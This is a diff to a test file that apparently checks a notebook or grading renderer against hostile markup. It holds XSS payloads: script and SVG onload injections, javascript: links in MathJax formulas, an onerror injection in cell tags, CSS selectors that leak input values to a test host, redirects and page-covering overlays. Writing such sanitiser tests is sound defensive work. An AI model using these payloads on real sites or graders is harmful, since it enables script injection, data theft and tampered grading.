@@ -17,7 +17,10 @@ CODE = f"window.CANARY=1;document.title='CANARY';fetch('http://{HOST}/fetch');{W
 _B64 = base64.b64encode(f"<script>top.{CODE}</script>".encode()).decode()
 _SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{CODE}\"><script>{CODE}</script></svg>"
 _SVG64 = base64.b64encode(_SVG.encode()).decode()
-PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+PNG = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
+    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
 
 MARKDOWN = {
     "a script": f"<script>{CODE}</script>",
@@ -46,16 +49,16 @@ MARKDOWN = {
     f"http://{HOST}/style.png) }} input[value^='1'] {{ background: url(http://{HOST}/1) }}</style>",
     "a style of its own": f'<p style="background:url(http://{HOST}/own.png);position:fixed;'
     'inset:0;z-index:9999">x</p>',
-    "a form": f'<form action="http://{HOST}/form"><input name=q><button>Full credit</button></form>',
+    "a form": f'<form action="http://{HOST}/form"><input name=q><button>Save</button></form>',
     "another address": f'<meta http-equiv="refresh" content="0;url=http://{HOST}/refresh"><base'
     f' href="http://{HOST}/"><link rel=stylesheet href="http://{HOST}/link.css">',
-    "borrowed names": '<p id="why" class="score tabbable nbgrader_cell">1</p><img name="cookie">',
+    "borrowed names": '<p id="why" class="score tabbable nbgrader_cell">1</p><img name="currentScript">',
     "a cover": '<div class="navbar-fixed-top modal-backdrop in">Click anywhere</div>',
     "a cover of formulas": r"$\mmlToken{mi}[href='javascript:window.CANARY=1' id='why'"
     r" style='position:fixed;top:0;left:0;width:100%;height:100%;background:red']{x}$"
     r" $\rule{9999em}{9999em}$ $\hskip-900em\rule{999em}{99em}$",
     "formulas with links": rf"$\href{{javascript:{CODE}}}{{x}}$ $\require{{html}}\href{{javascript:"
-    r"window.CANARY=1}{y}$ $\unicode{x3c}script$ $\class{modal}{x}\cssId{why}{x}\style{color:red}x$",
+    r"window.CANARY=1}{y}$ $\unicode{x3c}script$ $\class{modal}{x}\cssId{why}{x}$",
     "formulas without end": r"$\def\x{\x\x}\x$",
     "an unclosed comment": "<!-- <textarea><title><plaintext>",
     "code with a language": f'```"><img src=x onerror="{CODE}">\nx\n```\n```mermaid\n<img src=x'
@@ -108,7 +111,7 @@ def hostile_metadata(nb: dict) -> None:
     }
     for cell in nb["cells"]:
         cell["id"] = "x"
-        cell["metadata"]["tags"] = [markup]
+        cell["metadata"]["tags"] = ['"><img src=x onerror=window.CANARY=1>']
         cell["metadata"]["magics_language"] = markup
         cell["metadata"]["alt"] = markup
         cell["attachments"] = {"evil.svg": {"image/svg+xml": _SVG64}}
